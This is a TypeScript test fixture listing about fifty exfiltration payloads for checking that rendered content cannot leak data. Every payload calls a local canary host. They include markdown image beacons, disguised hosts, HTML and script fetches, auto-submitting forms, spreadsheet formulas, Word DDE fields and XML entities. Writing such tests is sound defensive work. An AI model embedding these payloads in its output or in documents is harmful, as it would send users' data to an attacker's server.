/** A text that would take data out if whatever shows it brought it to life. Written for this project. */
export interface Trick {
  readonly kind: string;
  readonly text: string;
}

/** The host that pages could resolve; the tests let it lead to the canary. */
export const CANARY_HOST = 'canary.test';

/** Tricks that all call a canary at a port of this machine, each at a path of its own. */
export function exfiltrationTricks(port: number): readonly Trick[] {
  const named = `http://${CANARY_HOST}:${port}`;
  const direct = `http://127.0.0.1:${port}`;
  const base64 = (text: string) => Buffer.from(text).toString('base64');
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><image href="${named}/svg-data"/></svg>`;
  const texts: readonly (readonly [kind: string, text: string])[] = [
    ['image', `![ok](${named}/md.png?d=FINDINGS)`],
    ['image with a title', `![ok](${direct}/md-title.png "all good")`],
    ['image by reference', `![status][s]\n\n[s]: ${named}/reference.png`],
    ['image in a link', `[![badge](${named}/badge.png)](${named}/badge)`],
    ['image in angle brackets', `![a](<${named}/angle.png?q=a b>)`],
    ['image in a table', `| a |\n|---|\n| ![x](${named}/table.png) |`],
    ['link', `[Read the policy](${named}/link?d=FINDINGS)`],
    ['link by reference', `[Read the policy][p]\n\n[p]: ${direct}/link-reference`],
    ['link by a short reference', `[policy]\n\n[policy]: <${named}/short-reference> 'title'`],
    ['footnote', `As agreed.[^1]\n\n[^1]: ${named}/footnote`],
    ['automatic link', `<${named}/automatic>`],
    ['bare address', `See ${named}/bare?d=FINDINGS for more.`],
    ['bare host', `See www.${CANARY_HOST}:${port}/bare-host or //${CANARY_HOST}:${port}/no-scheme.`],
    ['other name in the link', `[https://aws.amazon.com/security](${named}/other-name)`],
    ['user part that looks like a host', `http://aws.amazon.com@${CANARY_HOST}:${port}/user`],
    ['look-alike host', `https://аws.amazon.com/ and ${named.replace('canary', 'cаnary')}/look-alike`],
    ['punycode host', `http://xn--cnary-2ve.test:${port}/punycode`],
    ['words in reverse', `\u202Egnp.x/${port}:tset.yranac//:ptth\u202C ![r](\u202E${named}/reverse\u202C)`],
    ['invisible characters', `![ok](ht\u200Btp://${CANARY_HOST}:${port}/zero\u00ADwidth) ![ok](${named}/\uFEFFmark)`],
    ['full-width address', `![ok](ｈｔｔｐ：／／${CANARY_HOST}:${port}/wide)`],
    ['backslashes', `![ok](http:\\\\${CANARY_HOST}:${port}\\backslash)`],
    ['address as a number', `![ok](http://2130706433:${port}/number) ![ok](http://0x7f.1:${port}/hex)`],
    ['img', `<img src="${named}/img" onerror="fetch('${direct}/onerror')">`],
    ['img without quotes', `<img/src=${named}/img-bare><image src=${named}/image>`],
    ['set of images', `<img srcset="${named}/srcset 2x"><picture><source srcset="${named}/source"></picture>`],
    ['script', `</script><script>fetch('${direct}/script',{method:'POST',body:document.body.innerText})</script>`],
    ['style', `</style><style>@import '${named}/style';*{background:url(${named}/background)}</style>`],
    ['attribute of style', `<p style="background:url(${named}/attribute)">x</p>`],
    [
      'frames',
      `<iframe src="${named}/frame"></iframe><object data="${named}/object"></object><embed src="${named}/embed">`,
    ],
    ['frame with its own document', `<iframe srcdoc="<img src='${named}/srcdoc'>"></iframe>`],
    ['media', `<video poster="${named}/poster" src="${named}/video" autoplay></video><audio src="${named}/audio">`],
    ['refresh', `<meta http-equiv="refresh" content="0;url=${named}/refresh">`],
    [
      'hints',
      `<link rel="dns-prefetch" href="//${CANARY_HOST}"><link rel="preconnect" href="${named}"><link rel=prefetch href="${named}/prefetch">`,
    ],
    ['base', `<base href="${named}/base/"><a href="x">x</a>`],
    [
      'form',
      `<form action="${named}/form"><input name=d value=FINDINGS autofocus onfocus="this.form.submit()"></form>`,
    ],
    ['ping', `<a href="#" ping="${named}/ping">Open in the document</a>`],
    [
      'svg',
      `<svg><image href="${named}/svg" /><use href="${named}/use#a"/><foreignObject><img src="${named}/foreign"></foreignObject></svg>`,
    ],
    ['mathematics', `<math><mtext><img src="${named}/math"></mtext></math> $$\\includegraphics{${named}/tex}$$`],
    [
      'data address',
      `![x](data:image/svg+xml;base64,${base64(svg)}) <img src="data:image/svg+xml,${encodeURIComponent(svg)}">`,
    ],
    [
      'script address',
      `[Show more](javascript:fetch('${direct}/javascript')) <a href="java\tscript:location='${named}/tab'">x</a>`,
    ],
    [
      'other schemes',
      `[a](vbscript:x) [b](file:////${CANARY_HOST}/share/x) [c](blob:${named}/blob) [d](ws://${CANARY_HOST}:${port}/socket)`,
    ],
    [
      'mail and programs',
      `[a](mailto:x@${CANARY_HOST}?body=FINDINGS) [b](ms-word:ofe|u|${named}/word.docx) [c](tel:${port})`,
    ],
    ['view of source', `[x](view-source:${named}/view) [y](chrome-extension://x/options.html)`],
    ['formula', `=HYPERLINK("${named}/formula?d="&A1,"Open") =WEBSERVICE("${named}/webservice")`],
    ['field of a word processor', `{ INCLUDEPICTURE "${named}/include" } { DDEAUTO c:\\\\x "${named}/dde" }`],
    ['XML', `<!DOCTYPE x [<!ENTITY e SYSTEM "${named}/entity">]>&e;<?xml-stylesheet href="${named}/xsl"?>]]>`],
    ['comment that ends', `--><img src="${named}/comment"><!--`],
    ['template', `{{constructor.constructor("fetch('${direct}/template')")()}} \${fetch('${direct}/literal')}`],
    ['numbers for letters', `&lt;img src=&quot;${named}/entities&quot;&gt; &#60;img src=${named}/numbers&#62;`],
    ['endless', `![long](${named}/endless?d=${'FINDINGS'.repeat(200)}) ${'A'.repeat(2_000)}`],
  ];
  return texts.map(([kind, text]) => ({ kind, text }));
}
